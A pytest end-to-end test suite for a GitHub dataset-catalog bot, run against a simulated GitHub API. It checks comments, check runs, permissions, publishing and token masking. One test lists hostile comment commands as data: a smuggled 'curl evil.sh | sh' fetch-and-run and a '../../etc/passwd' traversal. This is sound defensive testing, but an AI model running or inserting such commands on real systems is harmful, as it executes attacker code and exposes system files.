"""The GitHub bot end to end: real webhook payloads, real git, the real check, a simulated GitHub.

GitHub cannot run here, so ``tests/github_server.py`` simulates its REST API
(requests and responses checked against GitHub's OpenAPI
description; git data in a real bare repository).  Every event starts from a
real delivery in the shared contracts, copied and pointed at the test
repository, and validated against octokit's webhook schema.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import msgspec
import pytest

from bot.adapters.git import GitRepo
from bot.adapters.github import GitHub
from bot.config import Secret, Settings
from bot.errors import ServiceError
from bot.events.context import CHECK_MARKER, PUBLISH_MARKER, BotContext
from bot.events.handlers import handle
from bot.events.models import parse_event
from bot.events.pr_report import FILE_NAME, load_pr_report
from bot.events.publisher import Run, materialize
from tests.github_server import TOKEN, FakeGitHub, RepoState, adapt, load_webhook, make_client, running, webhook_errors
from tests.github_webhooks import pr_payload

REPO = "octo/catalog"
DP = "datasets/reef-temperature/datapackage.json"


@pytest.fixture
def github(tmp_path: Path) -> Iterator[FakeGitHub]:
    yield from running(tmp_path)


@dataclass
class RecordingPublisher:
    """A Publisher (the engine seam) that records what it was asked and reads the tree at that commit."""

    repo_dir: Path
    engine: str = "local"
    calls: list[tuple[tuple[str, ...], str, str, str, int | None]] = field(default_factory=list)
    titles: list[str] = field(default_factory=list)
    fail: set[str] = field(default_factory=set)
    before_submit: Any = None

    def submit(
        self, datasets: Sequence[str], sha: str, env: str, *, workflow: str = "publish", pr: int | None = None
    ) -> list[Run]:
        if self.before_submit:
            self.before_submit()
        self.calls.append((tuple(datasets), sha, env, workflow, pr))
        tree = materialize(self.repo_dir, sha, self.repo_dir.parent / f"tree-{sha[:7]}-{len(self.calls)}")
        for d in datasets:
            self.titles.append(json.loads((tree / f"datasets/{d}/datapackage.json").read_text())["title"])
        return [
            Run(
                d,
                f"run-{d}",
                f"https://runs.example.org/{d}",
                "failed" if d in self.fail else "succeeded",
                message=f"boom {TOKEN}" if d in self.fail else "",
            )
            for d in datasets
        ]


@dataclass
class World:
    server: FakeGitHub
    repo: RepoState
    clone: Path
    settings: Settings
    publisher: RecordingPublisher
    tmp: Path

    def ctx(self, **kw: Any) -> BotContext:
        gh = kw.pop("gh", None) or make_client(self.server, REPO)
        return BotContext(
            settings=self.settings, repo_dir=self.clone, gh=gh, publisher_factory=lambda engine: self.publisher, **kw
        )

    def main(self) -> str:
        return self.server.rev(REPO, "main")

    def change(self, branch: str, **fields: Any) -> str:
        data = json.loads(self.server_file("main", DP))
        data.update(fields)
        return self.server.commit_files(
            REPO,
            branch,
            {DP: (json.dumps(data, indent=2) + "\n").encode()},
            parent=self.server.rev(REPO, branch) if self._has(branch) else self.main(),
        )

    def _has(self, branch: str) -> bool:
        return self.server._try_rev(self.repo, f"refs/heads/{branch}") is not None

    def server_file(self, ref: str, path: str) -> str:
        return self.server.file_at(REPO, ref, path)

    def pr_payload(self, number: int, action: str = "opened") -> dict[str, Any]:
        return pr_payload(self.server, self.repo, number, action, self.main())

    def cli_env(self, home: Path) -> dict[str, str]:
        """The PR job's environment: the schema mirror and nothing else (no token, no secrets)."""
        return {"PATH": os.environ["PATH"], "CATALOG_BOT_SCHEMAS": str(self.settings.schemas_dir), "HOME": str(home)}

    def replay_pr_with_cli(self, number: int, work: Path) -> subprocess.CompletedProcess[str]:
        """``catalog-bot event`` in a fresh process on PR ``number``'s delivery, its report under ``work/out``."""
        payload = work / "event.json"
        payload.write_text(json.dumps(self.pr_payload(number)))
        cmd = ["catalog-bot", "event", "--event", "pull_request", "--payload", str(payload)]
        cmd += ["--catalog", str(self.clone), "--artifact-out", str(work / "out")]
        return subprocess.run(cmd, capture_output=True, text=True, env=self.cli_env(work))

    def comment_payload(
        self, number: int, body: str, user: str, *, action: str = "created", user_type: str = "User"
    ) -> dict[str, Any]:
        """A drone/go-scm real capture of a PR comment (or octokit's issue comment), re-pointed."""
        on_pr = number in self.repo.pulls
        rel = (
            "drone-go-scm/scm/driver/github/testdata/webhooks/comment.json"
            if on_pr
            else "issue_comment/created.payload.json"
        )
        p = adapt(load_webhook(rel), self.repo, self.server)
        self.server.users[user] = user_type
        stored = self.server.add_comment(REPO, number, body, user=user)
        p["action"] = action
        p["issue"]["number"] = number
        p["issue"]["body"] = self.repo.issues[number]["body"]
        p["comment"].update(id=stored["id"], body=body)
        p["comment"]["user"].update(login=user, type=user_type)
        p["sender"].update(login=user, type=user_type)
        assert webhook_errors("issue_comment", p, lenient=True) == []
        return p


@pytest.fixture
def world(github: FakeGitHub, catalog_repo: Path, tmp_path: Path, schemas_dir: Path) -> World:
    repo = github.add_repo(REPO, catalog_repo)
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(repo.git_dir), str(clone)], check=True)
    settings = Settings(
        schemas_dir=schemas_dir,
        github_token=Secret(TOKEN),
        github_api_url=github.base_url,
        github_repository=REPO,
        step_summary=tmp_path / "summary.md",
    )
    github.set_permission(REPO, "mia", "maintain")
    github.set_permission(REPO, "rita", "read")
    github.set_permission(REPO, "wes", "write")
    return World(github, repo, clone, settings, RecordingPublisher(clone), tmp_path)


def run(world: World, name: str, payload: dict[str, Any], **kw: Any) -> list[Any]:
    return handle(parse_event(name, payload), world.ctx(**kw))


def bot_comments(world: World, number: int) -> list[str]:
    return [c["body"] for c in world.server.issue_comments(REPO, number) if c["user"].endswith("[bot]")]


# ---------------------------------------------------------------------- pull requests


def test_pull_request_gets_one_sticky_comment_and_an_annotated_check_run(world: World) -> None:
    world.change("feature", access="secret")  # invalid: the catalog profile allows public|limited
    pr = world.server.open_pr(REPO, "feature", user="alice")["number"]

    before = len(world.server.requests)
    [outcome] = run(world, "pull_request", world.pr_payload(pr))
    calls = world.server.requests[before:]
    assert outcome.details["conclusion"] == "failure"
    [comment] = bot_comments(world, pr)
    assert comment.startswith(CHECK_MARKER) and "reef-temperature" in comment
    [check] = world.repo.check_runs.values()
    assert check["conclusion"] == "failure" and check["head_sha"] == world.server.rev(REPO, "feature")
    notes = [a for a in check["annotations"] if a["path"] == DP and a["annotation_level"] == "failure"]
    assert notes and all(a["start_line"] >= 1 for a in notes)
    assert any("access" in a["message"] or "access" in a.get("title", "") for a in notes)
    # budget: constant number of calls, one comment write
    assert len(calls) <= 5
    assert sum(1 for c in calls if c.method in ("POST", "PATCH") and "/comments" in c.path) == 1
    assert "catalog-bot check" in (world.tmp / "summary.md").read_text()

    # a new push: the same comment is edited in place, a new check run for the new head
    world.change("feature", access="public", title="Reef temperature v2")
    run(world, "pull_request", world.pr_payload(pr, "synchronize"))
    [comment2] = bot_comments(world, pr)
    assert comment2 != comment and "❌" not in comment2.split("\n")[1]
    runs = sorted(world.repo.check_runs.values(), key=lambda r: r["id"])
    assert [r["conclusion"] for r in runs] == ["failure", "success"]


def test_closed_pull_request_is_a_no_op(world: World) -> None:
    world.change("feature", title="x")
    pr = world.server.open_pr(REPO, "feature")["number"]
    p = world.pr_payload(pr)
    p["action"] = "closed"
    before = len(world.server.requests)
    [outcome] = run(world, "pull_request", p)
    assert "nothing to do" in outcome.message and len(world.server.requests) == before


def test_split_mode_unprivileged_writes_artifact_privileged_posts_it(world: World) -> None:
    world.change("feature", title="New title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    out = world.tmp / "artifact"
    before = len(world.server.requests)
    # unprivileged job: no token at all
    ctx = BotContext(
        settings=msgspec.structs.replace(world.settings, github_token=None), repo_dir=world.clone, artifact_out=out
    )
    [outcome] = handle(parse_event("pull_request", world.pr_payload(pr)), ctx)
    assert "report written" in outcome.message
    assert len(world.server.requests) == before  # not a single API call
    report = load_pr_report(out)
    assert report.pr == pr and report.conclusion == "success"

    # privileged job: a real workflow_run delivery (fork PRs arrive with pull_requests == [])
    wr = adapt(load_webhook("workflow_run/completed.payload.json"), world.repo, world.server)
    wr["workflow_run"].update(head_sha=world.server.rev(REPO, "feature"), event="pull_request", pull_requests=[])
    assert webhook_errors("workflow_run", wr) == []
    [posted] = run(world, "workflow_run", wr, artifact_in=out)
    assert posted.ok and "posted" in posted.message
    [comment] = bot_comments(world, pr)
    assert comment.startswith(CHECK_MARKER)
    assert [r["conclusion"] for r in world.repo.check_runs.values()] == ["success"]


def test_forged_or_missing_artifact_fails_the_check_and_never_comments(world: World) -> None:
    world.change("feature", title="New title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    world.change("other", title="Other")
    other = world.server.open_pr(REPO, "other")["number"]
    out = world.tmp / "artifact"
    ctx = BotContext(
        settings=msgspec.structs.replace(world.settings, github_token=None), repo_dir=world.clone, artifact_out=out
    )
    handle(parse_event("pull_request", world.pr_payload(pr)), ctx)
    wr = adapt(load_webhook("workflow_run/completed.payload.json"), world.repo, world.server)
    wr["workflow_run"].update(head_sha=world.server.rev(REPO, "feature"), event="pull_request", pull_requests=[])

    # 1. the artifact claims another PR: that PR's head is not this SHA -> no comment anywhere
    data = json.loads((out / FILE_NAME).read_text())
    data["pr"] = other
    (out / FILE_NAME).write_text(json.dumps(data))
    [o1] = run(world, "workflow_run", wr, artifact_in=out)
    assert "comment skipped" in o1.message
    assert bot_comments(world, other) == [] and bot_comments(world, pr) == []

    # 2. the artifact is for another commit -> failing check on the run's commit
    data["pr"], data["head_sha"] = pr, "f" * 40
    (out / FILE_NAME).write_text(json.dumps(data))
    [o2] = run(world, "workflow_run", wr, artifact_in=out)
    assert not o2.ok

    # 3. no artifact (the unprivileged job crashed) -> failing check, never a silent pass
    [o3] = run(world, "workflow_run", wr, artifact_in=world.tmp / "nothing")
    assert not o3.ok
    failing = [
        r
        for r in world.repo.check_runs.values()
        if r["head_sha"] == wr["workflow_run"]["head_sha"] and r["conclusion"] == "failure"
    ]
    assert len(failing) == 2
    assert bot_comments(world, pr) == []

    # superseded (cancelled) runs and runs of other triggers post nothing
    checks = len(world.repo.check_runs)
    wr["workflow_run"]["conclusion"] = "cancelled"
    assert "cancelled" in run(world, "workflow_run", wr, artifact_in=out)[0].message
    wr["workflow_run"].update(conclusion="success", event="push")
    assert "ignored" in run(world, "workflow_run", wr, artifact_in=out)[0].message
    assert len(world.repo.check_runs) == checks


# ---------------------------------------------------------------------- comment commands


def test_read_permission_cannot_publish(world: World) -> None:
    world.change("feature", title="x")
    pr = world.server.open_pr(REPO, "feature")["number"]
    payload = world.comment_payload(pr, "/catalog publish reef-temperature", "rita")
    [outcome] = run(world, "issue_comment", payload)
    assert "refused" in outcome.message
    assert world.publisher.calls == []
    reply = bot_comments(world, pr)[-1]
    assert "needs **maintain**" in reply and "you have **read**" in reply and "/catalog help" in reply
    assert world.server.reactions_of(REPO, payload["comment"]["id"]) == ["eyes", "confused"]
    # authorization came from the collaborator API, not from author_association in the payload
    assert world.server.count("GET", r"/collaborators/rita/permission") == 1


def test_maintainer_publishes_with_reactions_and_a_reply(world: World) -> None:
    issue = world.server.add_issue(REPO, "Publish please", "body")["number"]
    payload = world.comment_payload(issue, "/catalog publish reef-temperature env=local", "mia")
    [outcome] = run(world, "issue_comment", payload)
    assert outcome.ok
    assert world.publisher.calls == [(("reef-temperature",), world.main(), "local", "publish", None)]
    assert world.server.reactions_of(REPO, payload["comment"]["id"]) == ["eyes", "rocket", "hooray"]
    reply = bot_comments(world, issue)[-1]
    assert "| `reef-temperature` | local | ✅ succeeded |" in reply and f"`{world.main()[:7]}`" in reply


@pytest.mark.parametrize(
    ("body", "needle"),
    [
        ("/catalog publish reef-temperature; curl evil.sh | sh", "not allowed"),
        ("/catalog publish ../../etc/passwd", "not a valid dataset id"),
        ("/catalog publish reef-temperature force=yes", "unknown option"),
        ("/catalog frobnicate", "unknown command"),
        ("/catalog publish @octo/everyone", "not allowed"),
    ],
)
def test_malformed_commands_get_a_polite_answer_and_nothing_runs(world: World, body: str, needle: str) -> None:
    issue = world.server.add_issue(REPO, "t", "b")["number"]
    payload = world.comment_payload(issue, body, "mia")
    run(world, "issue_comment", payload)
    reply = bot_comments(world, issue)[-1]
    assert reply.startswith("> ") and "Sorry @mia" in reply and needle in reply and "catalog-bot commands" in reply
    assert "@octo/everyone" not in reply  # quoted back without a live mention
    assert world.publisher.calls == []
    assert world.server.reactions_of(REPO, payload["comment"]["id"]) == ["eyes", "confused"]


def test_edited_comments_and_bot_comments_are_ignored(world: World) -> None:
    issue = world.server.add_issue(REPO, "t", "b")["number"]
    edited = world.comment_payload(issue, "/catalog publish reef-temperature", "mia", action="edited")
    own = world.comment_payload(issue, "/catalog publish reef-temperature", "catalog-bot[bot]", user_type="Bot")
    before = len(world.server.requests)
    assert "ignored" in run(world, "issue_comment", edited)[0].message
    assert "ignored" in run(world, "issue_comment", own)[0].message
    assert len(world.server.requests) == before and world.publisher.calls == []


def test_a_push_between_acceptance_and_execution_does_not_change_the_pinned_sha(world: World) -> None:
    world.change("feature", title="Accepted title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    accepted = world.server.rev(REPO, "feature")

    def race() -> None:  # someone pushes right after the bot accepted the command
        world.change("feature", title="Sneaky title")

    world.publisher.before_submit = race
    payload = world.comment_payload(pr, "/catalog publish reef-temperature env=local", "mia")
    [outcome] = run(world, "issue_comment", payload)
    assert outcome.ok and outcome.details["sha"] == accepted
    assert world.server.rev(REPO, "feature") != accepted  # the push did land
    published = world.publisher.calls[0][1]  # the overlay: default-branch configuration + the PR's datasets/
    assert GitRepo(world.clone).rev_parse(f"{published}^1") == accepted
    assert world.publisher.titles == ["Accepted title"]  # the tree published is the accepted one


def test_help_and_unknown_environment(world: World) -> None:
    issue = world.server.add_issue(REPO, "t", "b")["number"]
    run(world, "issue_comment", world.comment_payload(issue, "/catalog help", "rita"))
    assert "| `/catalog publish DATASET... [env=NAME]` |" in bot_comments(world, issue)[-1]
    payload = world.comment_payload(issue, "/catalog publish reef-temperature env=nowhere", "mia")
    [outcome] = run(world, "issue_comment", payload)
    assert not outcome.ok and "unknown environment 'nowhere'" in bot_comments(world, issue)[-1]
    assert world.server.reactions_of(REPO, payload["comment"]["id"])[-1] == "confused"


# ---------------------------------------------------------------------- merge publishing


def push_payload(world: World, before: str, after: str) -> dict[str, Any]:
    p = adapt(load_webhook("drone-go-scm/scm/driver/github/testdata/webhooks/push.json"), world.repo, world.server)
    p.update(ref="refs/heads/main", before=before, after=after, created=False, deleted=False)
    assert webhook_errors("push", p, lenient=True) == []
    return p


def test_merge_publishes_only_changed_datasets_and_finalizes_statuses(world: World) -> None:
    world.change("feature", title="Merged title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    before, after = world.server.merge_pr(REPO, pr)
    world.publisher.fail = {"reef-temperature"}
    [outcome] = run(world, "push", push_payload(world, before, after), run_url="https://ci.example.org/run/1")
    assert not outcome.ok  # a failed publish fails the job
    assert world.publisher.calls == [(("reef-temperature",), after, "local", "publish", pr)]
    statuses = [s for s in world.repo.statuses if s["sha"] == after]
    assert [s["state"] for s in statuses] == ["pending", "failure"]
    assert statuses[-1]["context"] == "catalog-bot/publish/reef-temperature"
    assert statuses[-1]["target_url"] == "https://runs.example.org/reef-temperature"
    [table] = bot_comments(world, pr)
    assert table.startswith(PUBLISH_MARKER) and "❌ failed" in table
    assert TOKEN not in table and "boom ***" in table  # the run's message is masked


def test_statuses_are_finalized_even_when_the_engine_crashes(world: World) -> None:
    world.change("feature", title="Merged title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    before, after = world.server.merge_pr(REPO, pr)

    def crash() -> None:
        raise ServiceError("argo", "server unavailable", url="https://argo.example.org", status=503)

    world.publisher.before_submit = crash
    with pytest.raises(ServiceError):
        run(world, "push", push_payload(world, before, after))
    latest = {s["context"]: s["state"] for s in world.repo.statuses if s["sha"] == after}
    assert latest == {"catalog-bot/publish/reef-temperature": "error"}
    assert "server unavailable" in bot_comments(world, pr)[0]


def test_push_to_another_branch_or_without_changes_does_nothing(world: World) -> None:
    p = push_payload(world, world.main(), world.main())
    p["ref"] = "refs/heads/feature"
    assert "ignored" in run(world, "push", p)[0].message
    world.server.commit_files(REPO, "main", {"README.md": b"docs only\n"})
    p = push_payload(world, world.server.rev(REPO, "main~1"), world.main())
    assert "no dataset to publish" in run(world, "push", p)[0].message
    assert world.publisher.calls == [] and world.repo.statuses == []


# ---------------------------------------------------------------------- dataset issues


FORM_BODY = """### Dataset id

coral-cover

### Title

Coral cover surveys

### Description

Percent hard coral cover.

### Licence

CC-BY-4.0

### Contributors

Reef Lab | publisher | data@example.org | Reef Lab

### Keywords

coral, reef

### Access

public

### Bounding box

145.0, -24.5, 153.0, -10.0

### Temporal start

2020-01-01

### Temporal end

_No response_

### Metadata source

_No response_"""


def test_dataset_issue_is_answered_and_generate_opens_a_bot_pr(world: World) -> None:
    issue = world.server.add_issue(REPO, "Dataset: coral cover", FORM_BODY, labels=("dataset",))
    p = adapt(load_webhook("issues/opened.payload.json"), world.repo, world.server)
    p["issue"].update(number=issue["number"], body=FORM_BODY)
    assert webhook_errors("issues", p) == []
    run(world, "issues", p)
    body = world.repo.issues[issue["number"]]["body"]
    assert body.startswith(FORM_BODY) and "catalog-bot: ready" in body and "/catalog generate" in body

    payload = world.comment_payload(issue["number"], "/catalog generate", "wes")
    [outcome] = run(world, "issue_comment", payload)
    assert outcome.ok, bot_comments(world, issue["number"])
    [pr] = [n for n, p in world.repo.pulls.items() if p["head_ref"] == "catalog-bot/generate/coral-cover"]
    dp = json.loads(world.server_file("catalog-bot/generate/coral-cover", "datasets/coral-cover/datapackage.json"))
    assert dp["name"] == "coral-cover" and dp["spatial"]["bbox"] == [145.0, -24.5, 153.0, -10.0]
    assert f"#{pr}" in world.repo.issues[issue["number"]]["body"]
    # the bot's own edit of the issue body comes back as issues.edited from a Bot: ignored
    p["action"], p["sender"]["type"], p["sender"]["login"] = "edited", "Bot", "catalog-bot[bot]"
    p["changes"] = {"body": {"from": FORM_BODY}}
    assert "ignored" in run(world, "issues", p)[0].message


# ---------------------------------------------------------------------- secrets, CLI


def test_tokens_never_reach_comments_requests_summaries_logs_or_artifacts(
    world: World, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    world.change("feature", access="secret", title=f"leak {TOKEN}")
    pr = world.server.open_pr(REPO, "feature")["number"]
    world.server.inject("GET", r"/comments$", 502, message=f"proxy echoed Authorization: token {TOKEN}")
    run(world, "pull_request", world.pr_payload(pr))
    assert "transient failure" in caplog.text and "retry 1/" in caplog.text
    out = world.tmp / "artifact"
    ctx = BotContext(
        settings=msgspec.structs.replace(world.settings, github_token=None), repo_dir=world.clone, artifact_out=out
    )
    GitHub.connect(world.settings, throttle=False)  # registers the token with the masker, as the CLI does
    handle(parse_event("pull_request", world.pr_payload(pr)), ctx)
    world.publisher.fail = {"reef-temperature"}
    issue = world.server.add_issue(REPO, "t", "b")["number"]
    run(world, "issue_comment", world.comment_payload(issue, "/catalog publish reef-temperature", "mia"))
    texts = [json.dumps(r.body) for r in world.server.requests if r.method != "GET"]
    texts += [(world.tmp / "summary.md").read_text(), (out / FILE_NAME).read_text()]
    texts += bot_comments(world, pr) + bot_comments(world, issue)
    texts += [json.dumps(r["output"]) + json.dumps(r["annotations"]) for r in world.repo.check_runs.values()]
    texts.append(caplog.text)
    assert texts and not [t for t in texts if TOKEN in t]
    assert any("***" in t for t in texts)  # it was there, and masked


@pytest.mark.slow
def test_cli_replays_a_delivery_from_a_file(world: World, tmp_path: Path) -> None:
    world.change("feature", title="CLI title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    proc = world.replay_pr_with_cli(pr, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert "report written" in proc.stdout and load_pr_report(tmp_path / "out").pr == pr
    bad = subprocess.run(
        ["catalog-bot", "event", "--event", "push", "--payload", str(tmp_path / "missing.json")],
        capture_output=True,
        text=True,
        env=world.cli_env(tmp_path),
    )
    assert bad.returncode == 2 and "not found" in bad.stderr and "Traceback" not in bad.stderr


def test_merge_publishes_through_the_real_local_engine(world: World) -> None:
    """No publisher injected: the environment's engine (local) runs the real pipeline on the merged commit."""
    world.change("feature", title="Reef temperature, merged")
    pr = world.server.open_pr(REPO, "feature")["number"]
    before, after = world.server.merge_pr(REPO, pr)
    subprocess.run(["git", "-C", str(world.clone), "pull", "-q", "--ff-only"], check=True)  # the job checks out `after`
    ctx = BotContext(
        settings=world.settings,
        repo_dir=world.clone,
        gh=make_client(world.server, REPO),
        run_url="https://ci.example.org/run/7",
    )
    [outcome] = handle(parse_event("push", push_payload(world, before, after)), ctx)
    assert outcome.ok, bot_comments(world, pr)
    published = json.loads(
        (world.clone / "_published/data/catalog-public/reef-temperature/datapackage.json").read_text()
    )
    assert published["title"] == "Reef temperature, merged"
    final = [s for s in world.repo.statuses if s["sha"] == after][-1]
    assert (final["state"], final["target_url"]) == ("success", "https://ci.example.org/run/7")
    assert "✅ succeeded" in bot_comments(world, pr)[0]


def test_long_reports_go_to_the_job_summary_with_a_link(world: World) -> None:
    from bot.adapters.git import GitRepo
    from bot.catalog.check import run_check
    from bot.events.pr_check import post_pr_report
    from bot.events.pr_report import build_pr_report
    from bot.events.sanitize import neutralise

    world.change("feature", access="secret", title="t" * 300, description="d" * 3000)
    pr = world.server.open_pr(REPO, "feature")["number"]
    subprocess.run(["git", "-C", str(world.clone), "fetch", "-q", "origin", "feature"], check=True)
    report = run_check(GitRepo(world.clone), world.main(), world.server.rev(REPO, "feature"), world.settings)
    prr = build_pr_report(report, pr, max_chars=1200)
    assert len(prr.bodies) > 1
    ctx = world.ctx(run_url="https://ci.example.org/run/9")
    post_pr_report(ctx, prr)
    ctx.summary(prr.summary_markdown())
    [comment] = bot_comments(world, pr)
    assert comment.startswith(prr.bodies[0].rstrip())  # part 1 whole, never cut mid-block
    assert "[job summary](https://ci.example.org/run/9)" in comment
    summary = (world.tmp / "summary.md").read_text()
    assert all(neutralise(body).strip() in summary for body in prr.bodies)  # markers do not go to summaries
    for body in prr.bodies:  # every part closes what it opens
        assert body.count("<details") == body.count("</details>") and body.count("```") % 2 == 0


@dataclass
class StoredRecord:
    """A metadata source serving one real ISO 19115-3 document (the CSW transport is tested in test_harvest)."""

    xml: bytes

    def get_record(self, record_id: str) -> bytes:
        return self.xml

    def get_url(self) -> bytes:
        return self.xml


def test_harvest_command_opens_the_update_pr(world: World) -> None:
    import yaml

    from tests.test_harvest import ISO_19115_3

    path = "datasets/reef-temperature/pipeline.yaml"
    spec = yaml.safe_load(world.server_file("main", path))
    spec["metadata_source"] = {"kind": "url", "url": "https://records.example.org/reef.xml"}
    world.server.commit_files(REPO, "main", {path: yaml.safe_dump(spec, sort_keys=False).encode()})
    issue = world.server.add_issue(REPO, "harvest", "b")["number"]
    ctx = world.ctx(record_sources=lambda url: StoredRecord(ISO_19115_3))
    [outcome] = handle(
        parse_event("issue_comment", world.comment_payload(issue, "/catalog harvest reef-temperature", "wes")), ctx
    )
    assert outcome.ok, bot_comments(world, issue)
    assert "pr-created" in bot_comments(world, issue)[-1]
    harvested = json.loads(world.server_file("catalog-bot/harvest/reef-temperature", DP))
    assert harvested["lineage"] == "Field surveys."

    no_source = world.comment_payload(issue, "/catalog harvest sea-surface-temperature", "wes")
    [refused] = handle(parse_event("issue_comment", no_source), ctx)
    assert not refused.ok and "no `metadata_source`" in bot_comments(world, issue)[-1]


def test_broken_configuration_on_the_default_branch_is_answered(world: World) -> None:
    world.server.commit_files(REPO, "main", {"catalog-bot.yaml": b"version: 1\ncommands:\n  publish: everyone\n"})
    issue = world.server.add_issue(REPO, "t", "b")["number"]
    payload = world.comment_payload(issue, "/catalog publish reef-temperature", "mia")
    [outcome] = run(world, "issue_comment", payload)
    assert not outcome.ok and world.publisher.calls == []
    reply = bot_comments(world, issue)[-1]
    assert "cannot run commands" in reply and "catalog-bot.yaml" in reply and "commands.publish" in reply
    assert world.server.reactions_of(REPO, payload["comment"]["id"]) == ["eyes", "confused"]


def test_merge_submits_argo_workflows_and_links_them(world: World, schemas_dir: Path) -> None:
    """engine: argo -> bot.pipeline.argo_submit against the Argo test server (contract-checked)."""
    import yaml

    from bot.adapters.argo import ArgoClient
    from bot.pipeline.argo_render import PUBLISH_TEMPLATE, render_all
    from tests.argo_server import ArgoTestServer

    swagger = schemas_dir / "argo-workflows-v4.1.2" / "api" / "openapi-spec" / "swagger.json"
    with ArgoTestServer(swagger, "argo-token-123456") as argo:
        config = yaml.safe_load(world.server_file("main", "catalog-bot.yaml"))
        config["environments"]["prod"] = {
            "engine": "argo",
            "argo": {"url": argo.url, "ui_url": "https://argo.example.org"},
        }
        world.server.commit_files(REPO, "main", {"catalog-bot.yaml": yaml.safe_dump(config).encode()})
        from bot.catalog.layout import Catalog

        manifests = render_all(Catalog.open(world.clone), "local", REPO)
        ArgoClient(argo.url, token="argo-token-123456").apply_template(manifests[f"{PUBLISH_TEMPLATE}.yaml"])

        world.change("feature", title="Argo title")
        pr = world.server.open_pr(REPO, "feature")["number"]
        before, after = world.server.merge_pr(REPO, pr)
        settings = msgspec.structs.replace(world.settings, argo_token=Secret("argo-token-123456"))
        ctx = BotContext(
            settings=settings, repo_dir=world.clone, gh=make_client(world.server, REPO), environment="prod"
        )
        [outcome] = handle(parse_event("push", push_payload(world, before, after)), ctx)
        assert outcome.ok
        [wf] = argo.state.workflows.values()
        params = {p["name"]: p["value"] for p in wf["spec"]["arguments"]["parameters"]}
        assert params["dataset"] == "reef-temperature" and params["sha"] == after and params["pr"] == str(pr)
        final = [s for s in world.repo.statuses if s["sha"] == after][-1]
        # submitted is not published: pending until the exit handler reports (tests/test_argo_report.py)
        assert final["state"] == "pending" and final["target_url"].startswith("https://argo.example.org")
        assert "| `reef-temperature` | argo |" in bot_comments(world, pr)[0]
        assert argo.state.violations == []
